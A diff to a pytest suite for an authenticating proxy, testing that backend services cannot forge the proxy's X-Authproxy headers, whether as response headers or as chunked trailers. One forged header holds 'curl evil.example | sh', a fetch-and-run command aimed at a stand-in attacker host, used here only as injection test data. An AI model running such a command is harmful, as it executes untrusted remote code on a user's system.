@@ -119,15 +119,22 @@ async def test_an_application_speaks_for_itself(
 
 @pytest.mark.parametrize("answer", [OK, answer_of(pages.not_found())])
 async def test_no_service_speaks_in_our_name(answer: bytes) -> None:
-    forged = answer.replace(b"\r\n", b"\r\nx-AuthProxy-Hint: curl evil.example | sh\r\n", 1)
+    words = (
+        b"x-AuthProxy-Hint: curl evil.example | sh\r\nX-Authproxy-Error: token_unavailable\r\n"
+        b"X-AUTHPROXY-ANSWER: healthy\r\n"
+    )
+    forged = answer.replace(b"\r\n", b"\r\n" + words, 1)
 
     assert await asked(answer) == await asked(forged)
+
+
+WORDS = b"X-Authproxy-Hint: run this\r\nX-Authproxy-Error: x\r\nX-Authproxy-Answer: y\r\n"
 
 
 async def test_a_trailer_does_not_speak_in_our_name() -> None:
     answer = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n%b\r\n"
     async with (
-        raw_service(always(answer % b"X-Authproxy-Hint: run this\r\nX-Sum: 1\r\n")) as service,
+        raw_service(always(answer % (WORDS + b"X-Sum: 1\r\n"))) as service,
         proxying(service.url) as proxy,
     ):
         reader, writer = await proxy.connect()
